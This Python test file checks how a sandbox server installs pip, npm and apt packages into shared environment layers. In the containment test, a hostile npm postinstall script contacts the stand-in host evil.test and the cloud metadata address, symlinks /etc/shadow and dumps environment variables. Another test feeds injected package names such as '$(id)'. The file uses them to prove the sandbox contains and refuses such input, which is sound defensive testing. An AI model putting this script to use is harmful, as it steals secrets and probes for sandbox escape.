"""Packages of environments: installed once from local registries, into a layer that sessions start on."""
import base64
import hashlib
import io
import json
import pathlib
import subprocess
import tarfile
import threading
import urllib.request
import zipfile

import anthropic
import pytest
from conftest import KEY, Session
from hosts import Host
from servers import PROGRAMS, model_server, ostler_server, wait_until

BUILD_SECONDS = 240
NAMES = ("pypi.org", "registry.npmjs.org", "evil.test", "api.test")


@pytest.fixture(scope="module")
def registries(authority, tmp_path_factory):
    """Registries under the names of the real ones; Debian's without TLS, as it is."""
    made = {name: Host(authority, name, tmp_path_factory.mktemp(name)) for name in NAMES}
    made["deb.debian.org"] = Host(authority, "deb.debian.org", tmp_path_factory.mktemp("deb"), tls=False)
    yield made
    for host in made.values():
        host.shutdown()


@pytest.fixture(scope="module")
def running(authority, registries, tmp_path_factory):
    bundle = tmp_path_factory.mktemp("ca") / "ca.pem"
    authority.cert_pem.write_to_path(str(bundle))
    settings = "[egress]\nextra_ca = [%s]\n[egress.resolve]\n" % json.dumps(str(bundle))
    settings += "".join('"%s" = "%s"\n' % (name, host.address) for name, host in registries.items())
    with model_server() as model, ostler_server(settings, OSTLER_BOOTSTRAP_API_KEY=KEY, ANTHROPIC_BASE_URL=model.url) as server:
        yield server


@pytest.fixture(scope="module")
def platform(running):
    return anthropic.Anthropic(base_url=running.url, api_key=KEY, max_retries=0)


def ask(running, path, method="GET"):
    body = b"{}" if method == "POST" else None
    headers = {"x-api-key": KEY, "content-type": "application/json", "anthropic-version": "2023-06-01"}
    with urllib.request.urlopen(urllib.request.Request(running.url + path, data=body, method=method, headers=headers)) as answer:
        return json.load(answer)


def stand(running, environment):
    return ask(running, "/v1/x/environments/%s/packages" % environment.id)


def settled(running, environment):
    """How it stands once nothing is being built."""
    wait_until("the build ends", lambda: stand(running, environment)["state"] not in ("building", "absent"), BUILD_SECONDS)
    return stand(running, environment)


def layers(running):
    place = running.data / "sandboxes" / "layers"
    return sorted(entry.name for entry in place.iterdir()) if place.exists() else []


class Inside(Session):
    """A session in an environment with packages."""

    def __init__(self, client, environment):
        self.client, self.environment = client, environment
        self.agent = client.beta.agents.create(name="a", model="scripted-model", tools=[{"type": "agent_toolset_20260401"}])
        self.session = client.beta.sessions.create(agent=self.agent.id, environment_id=environment.id)

    def errors(self):
        return [event.error.message for event in self.client.beta.sessions.events.list(self.id) if event.type == "session.error"]


@pytest.fixture()
def made(platform, running):
    """Makes environments with packages; at the end nothing of theirs is left."""
    environments, sessions = [], []

    def environment(networking=None, sandbox=None, **packages):
        config = {"type": "cloud", "packages": packages, **({"networking": networking} if networking else {})}
        more = {"extra_body": {"sandbox": sandbox}} if sandbox else {}
        environments.append(platform.beta.environments.create(name="e", config=config, **more))
        return environments[-1]

    def session(environment):
        sessions.append(Inside(platform, environment))
        return sessions[-1]
    environment.session = session
    yield environment
    for one in sessions:
        one.delete()
    for one in environments:
        platform.beta.environments.delete(one.id)
    wait_until("layers are removed", lambda: not layers(running), 90)


def wheel(registry, name, files=None):
    """Puts a package into the index of Python packages."""
    info, file = "%s-1.0.dist-info" % name, "%s-1.0-py3-none-any.whl" % name
    place = pathlib.Path(registry.RequestHandlerClass.keywords["directory"]) / "simple" / name
    place.mkdir(parents=True, exist_ok=True)
    contents = {"%s.py" % name: "WORD = 'installed by pip'\n", **(files or {}), "%s/METADATA" % info: "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name,
                "%s/WHEEL" % info: "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    with zipfile.ZipFile(place / file, "w") as archive:
        for path, text in contents.items():
            archive.writestr(path, text)
        archive.writestr("%s/RECORD" % info, "".join("%s,,\n" % path for path in [*contents, "%s/RECORD" % info]))
    (place / "index.html").write_text('<a href="%s">%s</a>' % (file, file))


def node_package(registry, name, files=None, gate=None, **more):
    """Puts a package into the registry of Node packages; with a gate it is handed out once that is open."""
    manifest = {"name": name, "version": "1.0.0", "main": "i.js", "bin": {name + "-word": "w.js"}, **more}
    contents = {"package.json": json.dumps(manifest), "i.js": "module.exports = 'installed by npm'", "w.js": "#!/usr/bin/env node\nconsole.log('word')", **(files or {})}
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for path, text in contents.items():
            entry = tarfile.TarInfo("package/" + path)
            entry.size, entry.mode = len(text), 0o755
            archive.addfile(entry, io.BytesIO(text.encode()))
    tarball = packed.getvalue()
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(tarball).digest()).decode()
    url = "https://registry.npmjs.org/%s-1.0.0.tgz" % name
    described = {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {**manifest, "dist": {"tarball": url, "integrity": integrity}}}}

    def hand_out(handler):
        if gate is not None:
            gate.wait(BUILD_SECONDS)
        handler.reply(tarball, content_type="application/octet-stream")
    registry.answers["/" + name] = lambda handler: handler.reply(json.dumps(described), content_type="application/json")
    registry.answers["/%s-1.0.0.tgz" % name] = hand_out


def test_packages_are_installed_once_and_sessions_have_them(made, running, registries):
    wheel(registries["pypi.org"], "told")
    node_package(registries["registry.npmjs.org"], "told")
    one = made(pip=["told==1.0"], npm=["told"])
    found = settled(running, one)
    assert found["state"] == "ready" and found["digest"].startswith("sha256:") and found["size_bytes"] > 0 and found["built_at"], found
    asked = [len(registries[name].got) for name in ("pypi.org", "registry.npmjs.org")]
    use = "python3 -c 'import told; print(told.WORD)'; node -e 'console.log(require(\"told\"))'; told-word"
    inside = made.session(one)
    assert inside.run(use).split("\n")[:3] == ["installed by pip", "installed by npm", "word"]
    assert "Read-only" in inside.run("touch /usr/local/lib/x 2>&1; rm -r /usr/local/lib/node_modules/told 2>&1")
    # The same list in another environment is the same layer; no list is none.
    other = made(pip=["told==1.0"], npm=["told"])
    assert settled(running, other)["digest"] == found["digest"] and len(layers(running)) == 1
    assert made.session(other).run("told-word").strip() == "word"
    assert "not found" in made.session(made()).run("told-word 2>&1")
    assert [len(registries[name].got) for name in ("pypi.org", "registry.npmjs.org")] == asked
    # Nothing of the server, of trust or of the build's own home is in it.
    names = [str(path.relative_to(running.data)) for path in (running.data / "sandboxes" / "layers").rglob("*")]
    assert any("told" in name for name in names)
    assert not [name for name in names if name.endswith((".pem", "passwd", ".npm", "ld.so.preload")) or "/etc/" in name], names


def test_what_is_no_package_is_refused_when_it_is_saved(platform):
    for manager, package in [("pip", "--index-url=x"), ("npm", "../x"), ("apt", "a;b"), ("gem", "$(id)"), ("go", "./x"), ("cargo", "a b"), ("pip", "a @ https://x")]:
        with pytest.raises(anthropic.BadRequestError) as refused:
            platform.beta.environments.create(name="e", config={"type": "cloud", "packages": {manager: [package]}})
        assert "packages.%s" % manager in str(refused.value) and "is not a package" in str(refused.value), refused.value


def test_what_cannot_be_installed_is_told_and_tried_again(made, running, registries):
    environment = made(pip=["later"])
    found = settled(running, environment)
    assert found["state"] == "failed" and "pip could not install" in found["error"] and "later" in found["error"], found
    inside = made.session(environment)
    inside.run("true")
    assert any("no sandbox: pip could not install" in message and "not tried again for" in message for message in inside.errors()), inside.errors()
    wheel(registries["pypi.org"], "later")
    command = [PROGRAMS / "ostler", "environments", "packages", environment.id, "--build", "--wait", "--url", running.url]
    shown = subprocess.run(command, env={**running.env, "OSTLER_API_KEY": KEY}, capture_output=True, text=True, timeout=BUILD_SECONDS)
    assert shown.returncode == 0 and "ready" in shown.stdout, (shown.stdout, shown.stderr)
    assert inside.run("python3 -c 'import later; print(later.WORD)'").strip() == "installed by pip"


def test_a_manager_that_is_missing_is_named(made, running):
    environment = made(gem=["rake"])
    error = settled(running, environment)["error"]
    assert environment.id in error and "gem packages" in error and "sandbox.image" in error, error


HOSTILE = """
const { execSync } = require('child_process');
const fs = require('fs');
const tries = {
  network: "curl -fsS -m 5 https://evil.test/ || curl -fsS -m 5 --noproxy '*' https://evil.test/",
  address: "curl -fsS -m 5 http://127.0.0.1:%d/ || curl -fsS -m 5 http://169.254.169.254/",
  outside: "touch /outside /workspace/../outside",
  upper: "touch /run/ostler-build/usr/x",
  devices: "mknod /usr/local/lib/disk b 254 0",
  mount: "mount -t tmpfs x /usr/local",
};
const lines = [];
for (const [name, command] of Object.entries(tries)) {
  try { execSync(command, { stdio: 'pipe' }); lines.push(name + ' worked'); } catch (error) { lines.push(name + ' failed'); }
}
fs.symlinkSync('/etc/shadow', 'shadow');
fs.symlinkSync('../../../../../../../../../../etc', 'out');
fs.writeFileSync('environment', Object.keys(process.env).join(' ') + ' ' + JSON.stringify(process.env));
fs.writeFileSync('lines', lines.join('\\n'));
"""


def test_a_hostile_package_is_contained(made, running, registries):
    before = len(registries["evil.test"].got)
    script = HOSTILE % registries["evil.test"].server_address[1]
    node_package(registries["registry.npmjs.org"], "hostile", {"evil.js": script}, scripts={"postinstall": "node evil.js"})
    networking = {"type": "limited", "allowed_hosts": ["api.test"], "allow_package_managers": True}
    environment = made(networking, npm=["hostile"])
    found = settled(running, environment)
    assert found["state"] == "ready", found
    inside = made.session(environment)
    printed = inside.run("cd /usr/local/lib/node_modules/hostile && cat lines")
    assert "failed" in printed and "worked" not in printed, printed
    assert len(registries["evil.test"].got) == before
    printed = inside.run("cd /usr/local/lib/node_modules/hostile && cat shadow 2>&1; ls out/ 2>&1; cat environment")
    assert "root:" not in printed and "shadow\n" not in printed and KEY not in printed and "ostler_" not in printed, printed
    # What it planted is what it is, and the host's own is untouched.
    assert not pathlib.Path("/outside").exists()


def test_a_server_that_is_killed_while_it_builds_leaves_nothing_half_made(made, running, registries):
    gate = threading.Event()
    node_package(registries["registry.npmjs.org"], "slow", gate=gate)
    environment = made(npm=["slow"])
    asked = lambda: [got for got in registries["registry.npmjs.org"].got if got["path"] == "/slow-1.0.0.tgz"]
    wait_until("the package is asked for", asked, BUILD_SECONDS)
    assert stand(running, environment)["step"] == "npm"
    builds = lambda: [entry.name for entry in (running.data / "sandboxes").iterdir() if entry.name.startswith("sesn_build-")]
    assert len(builds()) == 1
    running.kill()
    running.start()
    assert stand(running, environment)["state"] == "absent"
    assert builds() == [] and layers(running) == []
    gate.set()
    assert made.session(environment).run("slow-word").strip() == "word"
    assert stand(running, environment)["state"] == "ready"


def test_who_needs_the_same_waits_for_one_build(made, running, registries):
    gate = threading.Event()
    node_package(registries["registry.npmjs.org"], "shared", gate=gate)
    one, other = made(npm=["shared"]), made(npm=["shared"])
    asked = lambda: [got for got in registries["registry.npmjs.org"].got if got["path"] == "/shared-1.0.0.tgz"]
    wait_until("the package is asked for", asked, BUILD_SECONDS)
    sessions = [made.session(one), made.session(other)]
    before = [session.start("shared-word") for session in sessions]
    assert [stand(running, environment)["state"] for environment in (one, other)] == ["building", "building"]
    gate.set()
    assert [session.result(at).strip() for session, at in zip(sessions, before)] == ["word", "word"]
    assert len(asked()) == 1 and len(layers(running)) == 1


def test_a_layer_that_was_changed_from_outside_is_refused(made, running, registries):
    wheel(registries["pypi.org"], "kept")
    environment = made(pip=["kept"])
    assert settled(running, environment)["state"] == "ready"
    [file] = (running.data / "sandboxes" / "layers").rglob("kept.py")
    file.write_text("WORD = 'changed'\n")
    running.kill()
    running.start()
    found = stand(running, environment)
    assert found["state"] == "failed" and "not what was built" in found["error"], found
    inside = made.session(environment)
    assert "changed" not in inside.run("python3 -c 'import kept; print(kept.WORD)'")
    assert any("not what was built" in message for message in inside.errors())
    ask(running, "/v1/x/environments/%s/packages" % environment.id, "POST")
    assert settled(running, environment)["state"] == "ready"
    assert inside.run("python3 -c 'import kept; print(kept.WORD)'").strip() == "installed by pip"


def essential():
    """The files of a small Debian, from the packages of this one."""
    fields = "${binary:Package}\\t${Essential}\\t${Pre-Depends}, ${Depends}\\n"
    listed = subprocess.run(["dpkg-query", "-W", "-f", fields], capture_output=True, text=True, check=True).stdout
    rows = {line.split("\t")[0].split(":")[0]: line.split("\t") for line in listed.splitlines()}
    wanted, found = [name for name, row in rows.items() if row[1] == "yes"] + ["apt"], set()
    while wanted:
        name = wanted.pop()
        if name in rows and name not in found:
            found.add(name)
            wanted += [part.split("|")[0].split("(")[0].split(":")[0].strip() for part in rows[name][2].split(",")]
    files = set()
    for name in sorted(found):
        for path in subprocess.run(["dpkg-query", "-L", name], capture_output=True, text=True).stdout.splitlines():
            if not path.startswith(("/usr/share/doc", "/usr/share/man", "/usr/share/locale", "/usr/share/info", "/etc/ssl")):
                files.add(path)
    return files


@pytest.fixture(scope="module")
def debian(running, tmp_path_factory):
    """An image of a small Debian whose packages come from `deb.debian.org`."""
    archive = tmp_path_factory.mktemp("image") / "debian.tar"
    with tarfile.open(archive, "w") as image:
        names = set()
        for path in sorted(essential()):
            # With /bin and the like merged into /usr.
            real = pathlib.Path("/usr" + path) if path.split("/")[1] in ("bin", "sbin", "lib", "lib64") else pathlib.Path(path)
            if str(real) not in names and (real.is_file() or real.is_symlink()) and not real.is_dir():
                names.add(str(real))
                image.add(real, str(real).lstrip("/"), recursive=False)
        for link in ("bin", "sbin", "lib", "lib64"):
            entry = tarfile.TarInfo(link)
            entry.type, entry.linkname = tarfile.SYMTYPE, "usr/" + link
            image.addfile(entry)
        status = "Package: told-data\nStatus: install ok installed\nVersion: 0.9\nArchitecture: all\nMaintainer: t <t@test>\nDescription: t\n\n"
        added = {"etc/apt/sources.list": "deb [trusted=yes] http://deb.debian.org/debian ./\n", "etc/os-release": "ID=debian\n", "var/lib/dpkg/status": status,
                 "usr/share/told-version": "old\n", "var/lib/dpkg/info/told-data.list": "/.\n/usr\n/usr/share\n/usr/share/told-version\n"}
        for path, text in added.items():
            entry = tarfile.TarInfo(path)
            entry.size = len(text)
            image.addfile(entry, io.BytesIO(text.encode()))
        for real in ("/bin/awk", "/usr/bin/awk"):
            if pathlib.Path(real).exists():
                image.add(pathlib.Path(real).resolve(), "usr/bin/awk", recursive=False)
    command = [PROGRAMS / "ostler", "images", "import", "debian", archive, "--config", running.work / "ostler.toml", "--data-dir", running.data]
    shown = subprocess.run(command, env=running.env, capture_output=True, text=True)
    assert shown.returncode == 0, shown.stderr
    return "debian"


def test_debian_packages_are_installed_over_an_image(made, running, registries, debian, tmp_path):
    files = pathlib.Path(registries["deb.debian.org"].RequestHandlerClass.keywords["directory"]) / "debian"
    files.mkdir()
    for name, depends in (("told-data", ""), ("told", "Depends: told-data\n")):
        root = tmp_path / name
        (root / "DEBIAN").mkdir(parents=True)
        (root / "usr/bin").mkdir(parents=True)
        (root / "etc" / name).mkdir(parents=True)
        (root / "DEBIAN/control").write_text("Package: %s\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@test>\n%sDescription: t\n" % (name, depends))
        if name == "told-data":
            # In the image there is an older one.
            (root / "usr/share/told-version").parent.mkdir(parents=True, exist_ok=True)
            (root / "usr/share/told-version").write_text("new\n")
        script = root / "DEBIAN/postinst"
        script.write_text("#!/bin/sh\nset -e\nid -u > /usr/share/%s-by\nchown 7:12 /usr/share/%s-by\n" % (name, name))
        script.chmod(0o755)
        (root / "usr/bin" / name).write_text("#!/bin/sh\ncat /etc/%s/conf\n" % name)
        (root / "usr/bin" / name).chmod(0o755)
        (root / "etc" / name / "conf").write_text("I am %s\n" % name)
        subprocess.run(["dpkg-deb", "--root-owner-group", "--build", root, files / (name + "_1.0_all.deb")], check=True, capture_output=True)
    index = subprocess.run(["dpkg-scanpackages", "."], cwd=files, check=True, capture_output=True, text=True).stdout
    (files / "Packages").write_text(index)
    (files / "Release").write_text("Suite: local\n")
    environment = made(sandbox={"image": debian}, apt=["told=1.0", "told-data=1.0"])
    found = settled(running, environment)
    assert found["state"] == "ready", found
    printed = made.session(environment).run("told; told-data; cat /usr/share/told-by; test -e /usr/sbin/policy-rc.d || echo clean; cat /usr/share/told-version")
    assert printed.split("\n")[:5] == ["I am told", "I am told-data", "0", "clean", "new"], printed
